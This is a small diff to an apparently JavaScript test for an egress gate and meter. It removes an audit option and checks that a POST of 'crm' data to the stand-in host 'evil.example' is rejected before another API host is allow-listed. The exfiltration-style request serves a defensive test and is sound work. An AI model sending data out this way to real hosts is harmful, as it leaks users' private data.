@@ -8,7 +8,7 @@ describe('EgressMeterState', () => {
     const gate = new EgressGate('https://sift.example', async () => new Response('ok'));
     await gate.fetch('/index.html');
     const meter = new EgressMeterState(gate);
-    const stop = meter.start({ audit: false });
+    const stop = meter.start();
     expect(meter.summary.requestsOut).toBe(0);
     await expect(gate.fetch('https://evil.example/x', { method: 'POST', body: 'crm' })).rejects.toThrow();
     gate.allow('https://api.groq.com', 'fallback');
